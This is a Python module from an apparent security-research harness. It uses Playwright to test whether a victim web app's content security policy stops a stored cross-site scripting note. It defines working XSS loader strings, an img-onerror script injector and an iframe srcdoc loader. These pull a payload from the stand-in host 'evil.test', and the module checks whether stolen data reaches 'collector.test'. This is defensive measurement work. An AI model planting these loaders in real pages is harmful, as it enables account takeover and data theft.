"""A script in the victim's page that should not be there: what it carries away, what it does in place."""

from dataclasses import dataclass
from enum import StrEnum
from typing import TYPE_CHECKING

from authcompare.experiments.browsing.outsider import COLLECT, PAYLOAD, Received
from authcompare.experiments.browsing.places import Place
from authcompare.experiments.browsing.scene import Scene, new_cell

if TYPE_CHECKING:
    from playwright.sync_api import BrowserContext, Page

ATTACKER, COLLECTOR = "evil.test", "collector.test"
PATIENCE_MS, LOOK_EVERY_MS = 15_000, 20
BEACON = "(address) => fetch(address, { method: 'POST', mode: 'no-cors', body: 'beacon' }).then(() => 0)"
RAN = "() => 'ran' in document.documentElement.dataset"
# Both at once: the page may be on its way elsewhere between two questions.
STOPPED = "() => { const { ran, refused } = document.documentElement.dataset; return !ran && !!refused; }"
SHOW = "(id) => app.show(id).then(() => 0)"
LOADER = (
    "<img src='data:,' onerror=\"const s = document.createElement('script'); s.src = '{script}'; "
    'document.head.append(s)">'
)
FRAME = "<iframe srcdoc=\"<script src='{script}'></script>\"></iframe>"


class Policy(StrEnum):
    """What the content security policy of the page is up against."""

    OFF = "off"
    ON = "on"
    ON_HOSTED = "on, script hosted by the site itself"  # an upload served as a script, say

    @property
    def variant(self) -> str:
        """Under which name the victim has it."""
        return "no-csp" if self is Policy.OFF else "product"

    def note(self, victim: str, attacker: str, query: str) -> str:
        """The text that is stored, and shown unescaped."""
        if self is Policy.ON_HOSTED:
            return FRAME.format(script=f"{victim}/victim/uploaded.js?{query}")
        return LOADER.format(script=f"{attacker}{PAYLOAD}?{query}")


@dataclass(frozen=True)
class Attack:
    """One place under one policy. `route` is how the loot left, `stolen` as what it let a stranger in.

    `finished`: the script had done all that it does, or had been stopped, when the watch over it ended.
    """

    policy: str
    accepted: bool
    beacon: bool
    ran: bool
    stopped: bool
    route: str
    stolen: tuple[str, ...]
    ridden: bool
    finished: bool


def attack(scene: Scene, place: Place, policy: Policy) -> Attack:
    """Store the note, have the victim look at it, see what has come of it. Raises Broken."""
    return scene.act(lambda context: _attack(scene, place, policy, context))


def _attack(scene: Scene, place: Place, policy: Policy, context: "BrowserContext") -> Attack:
    cell, collector, page = new_cell(), scene.outsider.origin(COLLECTOR), context.new_page()
    beacon = _beacon_arrives(scene, page)
    scene.enter(page, place, cell)
    accepted = scene.works(page, "control: the page's own request")
    attacker, query = scene.outsider.origin(ATTACKER), f"cell={cell}&to={collector}"
    text = policy.note(scene.origin, attacker, query.replace("&", "&amp;"))
    page.evaluate(SHOW, scene.store_note(text))
    sent = _sent(scene, page, cell)
    route, loot = (_route(sent), sent.said) if sent and sent.said else ("", "")
    ridden = scene.has_note(f"ridden in {cell}")
    ran = bool(sent) or ridden or _says(page, RAN)
    stopped = not ran and _says(page, STOPPED)
    scene.seen(cell, "the page, and its form if the script used it")
    stolen = scene.opens(loot.split(), "what the collector received")
    finished = bool(sent) or stopped
    return Attack(str(policy), accepted, beacon, ran, stopped, route, stolen, ridden, finished)


def _beacon_arrives(scene: Scene, page: "Page") -> bool:
    """Whether the collector hears the browser at all; a page that is nobody's yet can tell it as well."""
    cell = new_cell()
    page.evaluate(BEACON, f"{scene.outsider.origin(COLLECTOR)}{COLLECT}?cell={cell}")
    return any(one.said == "beacon" for one in scene.outsider.of_cell(cell))


def _sent(scene: Scene, page: "Page", cell: str) -> Received | None:
    """What the script sends at its very end, with loot or without; None if it is stopped, or does not end."""
    for _ in range(PATIENCE_MS // LOOK_EVERY_MS):
        if arrived := [one for one in scene.outsider.of_cell(cell) if one.path == COLLECT]:
            return arrived[0]
        if _says(page, STOPPED):
            break
        page.wait_for_timeout(LOOK_EVERY_MS)
    return None


def _route(sent: Received) -> str:
    return "fetch" if sent.method == "POST" else "navigation"


def _says(page: "Page", question: str) -> bool:
    """What page or payload left in the document; a page that is on its way elsewhere says nothing."""
    from playwright.sync_api import Error

    try:
        return bool(page.evaluate(question))
    except Error:
        return False
